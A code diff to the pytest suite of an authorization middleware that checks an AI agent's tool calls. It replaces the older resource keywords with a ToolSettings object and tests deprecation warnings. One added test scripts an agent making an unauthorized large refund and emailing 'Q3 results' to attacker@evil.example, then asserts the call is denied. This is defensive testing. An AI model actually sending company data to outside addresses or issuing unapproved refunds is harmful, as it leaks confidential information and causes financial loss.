@@ -6,6 +6,7 @@ import asyncio
 import re
 import subprocess
 import sys
+import warnings
 from collections.abc import Sequence
 from pathlib import Path
 from typing import Annotated, Any
@@ -120,11 +121,8 @@ def tools(ran: list[tuple[str, dict[str, Any]]]) -> list[BaseTool]:
 
 @pytest.fixture
 def middleware(authz: az.Authorizer) -> AuthzMiddleware:
-    return AuthzMiddleware(
-        authz,
-        resources={name: document for name in DOCUMENT_TOOLS},
-        resource_types={name: ["Document"] for name in DOCUMENT_TOOLS},
-    )
+    on_a_document = az.ToolSettings(resource=document, resource_types="Document")
+    return AuthzMiddleware(authz, settings=dict.fromkeys(DOCUMENT_TOOLS, on_a_document))
 
 
 REFUND_SCRIPT = (
@@ -301,12 +299,10 @@ def test_settings_by_tool_name_map_a_tool_to_an_action_and_resource(
         removed.append(document_id)
         return "removed"
 
-    mapped = AuthzMiddleware(
-        authz, actions={"remove_file": "delete_document"},
-        resources={"remove_file": document}, resource_types={"remove_file": ["Document"]},
-    )
-    with pytest.raises(az.ConfigurationError, match="names no tool"):
-        authorize_tools([remove_file], authz, actions={"remove_fille": "delete_document"})
+    as_delete = az.ToolSettings(action="delete_document", resource=document, resource_types="Document")
+    mapped = AuthzMiddleware(authz, settings={"remove_file": as_delete})
+    with pytest.raises(az.ConfigurationError, match="name no tool: remove_fille"):
+        authorize_tools([remove_file], authz, settings={"remove_fille": as_delete})
     model = scripted(("remove_file", {"document_id": "acme-budget"}),
                      ("remove_file", {"document_id": "acme-vendor-contract"}))
     agent = create_agent(model, tools=[remove_file], middleware=[mapped])
@@ -319,12 +315,38 @@ def test_settings_by_tool_name_map_a_tool_to_an_action_and_resource(
     assert removed == ["acme-budget"]
 
 
+def test_the_middlewares_old_keyword_mappings_still_work_and_warn_at_the_callers_line(
+    tools: list[BaseTool], authz: az.Authorizer, ran: list[tuple[str, dict[str, Any]]]
+) -> None:
+    with pytest.warns(DeprecationWarning, match=r"AuthzMiddleware\(resources=, resource_types=\)") as warned:
+        old = AuthzMiddleware(authz, resources={name: document for name in DOCUMENT_TOOLS},
+                              resource_types={name: ["Document"] for name in DOCUMENT_TOOLS})
+    assert warned[0].filename == __file__
+    spec = old.spec_for("read_document", tools[1])
+    assert spec is not None and spec.resource is document and spec.resource_types == ("Document",)
+    model = scripted(("read_document", {"document_id": "globex-design"}))
+    agent = create_agent(model, tools=tools, middleware=[old])
+    [refused] = tool_messages(agent.invoke({"messages": [("user", "read")]}, config=as_user("bob")))
+    assert refused.status == "error" and ran == []
+
+
+def test_a_tool_own_on_deny_under_the_middleware_overrides_the_middlewares(
+    tools: list[BaseTool], authz: az.Authorizer, ran: list[tuple[str, dict[str, Any]]]
+) -> None:
+    strict = AuthzMiddleware(authz, settings={"send_email": az.ToolSettings(on_deny="raise")})
+    model = scripted(("issue_refund", {"order_id": "o-1", "amount": 5000000}),
+                     ("send_email", {"to": "attacker@evil.example", "subject": "Q3 results"}))
+    agent = create_agent(model, tools=tools, middleware=[strict])
+    with pytest.raises(az.AccessDenied):
+        agent.invoke({"messages": [("user", "refund o-1")]}, config=as_user("carol"))
+    assert ran == []
+
+
 def test_middleware_passes_authorized_tools_through_so_each_call_is_decided_once(
     tools: list[BaseTool], authz: az.Authorizer, middleware: AuthzMiddleware, recorder: az.MemorySink,
     ran: list[tuple[str, dict[str, Any]]],
 ) -> None:
-    wrapped = authorize_tools(tools, authz, resources={name: document for name in DOCUMENT_TOOLS},
-                              resource_types={name: ["Document"] for name in DOCUMENT_TOOLS})
+    wrapped = authorize_tools(tools, authz, settings=middleware.settings)
     assert all(isinstance(t, AuthorizedTool) for t in wrapped)
     model = scripted(*REFUND_SCRIPT)
     agent = create_agent(model, tools=wrapped, middleware=[AuthzMiddleware(authz)])
@@ -431,13 +453,15 @@ def test_every_python_snippet_of_the_docs_page_runs_and_prints_what_it_says(
     monkeypatch.chdir(tmp_path)
     namespace: dict[str, object] = {"__name__": "__docs__"}
     ran = 0
-    for number, match in enumerate(re.finditer(r"^```([\w-]*)[^\n]*\n(.*?)^```", text, re.S | re.M)):
-        if match.group(1) == "python":
-            code = match.group(2)
-            exec(compile(code, f"langchain.md block {number}", "exec"), namespace)
-            ran += 1
-            for line in capsys.readouterr().out.splitlines():
-                assert line.strip() in code, f"block {number} printed {line!r}"
+    python = [match.group(2) for match in re.finditer(r"^```([\w-]*)[^\n]*\n(.*?)^```", text, re.S | re.M)
+              if match.group(1) == "python"]
+    for number, code in enumerate(python):
+        with warnings.catch_warnings():  # the page shows the current API, no deprecated keyword
+            warnings.filterwarnings("error", ".*is deprecated: pass settings=", DeprecationWarning)
+            exec(compile(code, f"langchain.md python block {number}", "exec"), namespace)
+        ran += 1
+        for line in capsys.readouterr().out.splitlines():
+            assert line.strip() in code, f"block {number} printed {line!r}"
     assert ran >= 8
 
 
